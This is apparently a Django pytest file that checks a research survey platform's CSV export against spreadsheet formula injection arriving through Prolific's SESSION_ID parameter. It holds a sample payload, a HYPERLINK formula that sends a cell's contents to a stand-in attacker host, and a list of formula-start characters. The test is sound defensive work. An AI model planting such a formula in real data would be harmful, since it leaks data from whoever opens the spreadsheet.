"""Attack: a participant types a spreadsheet formula into a recruitment parameter (Prolific's
SESSION_ID), hoping the researcher opens the responses CSV in a spreadsheet, where it would run.
Every text cell that starts like a formula must come out with a leading apostrophe (OWASP)."""

import csv
import io
import json

import pytest
from django.test import Client
from django.urls import reverse

from tests.surveys import factories

pytestmark = pytest.mark.django_db
# What a spreadsheet reads as the start of a formula (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your results")'


def answer_one_trial_as(client: Client, study, params: dict) -> None:
    token = client.post(reverse("trials:start", args=[study.public_id]), params)["Location"].rstrip("/").split("/")[-1]
    client.post(reverse("trials:consent", args=[token]), {"agree": "yes"})
    trial = client.get(reverse("trials:trials", args=[token])).json()["trials"][0]
    stored = client.post(reverse("trials:respond", args=[token]), content_type="application/json",
                         data=json.dumps({"trial": trial["id"], "choice": 0, "rt_ms": 800.0, "idempotency_key": "k1"}))
    assert stored.status_code == 201


def exported_rows(client: Client, study) -> list[dict]:
    response = client.get(reverse("scoring-study-responses", args=[study.pk]))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_formula_in_session_id_is_exported_as_text(researcher_a):
    study = factories.study(researcher_a, n_items=4)
    answer_one_trial_as(Client(), study, {"PROLIFIC_PID": "5f1e0a9b8c7d6e5f4a3b2c1d", "STUDY_ID": "s1",
                                          "SESSION_ID": PAYLOAD})
    researcher = Client()
    researcher.force_login(researcher_a)

    rows = exported_rows(researcher, study)

    assert [row["session"] for row in rows] == ["'" + PAYLOAD]
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())
        assert row["rt_ms"] == "800.0"  # numbers stay numbers
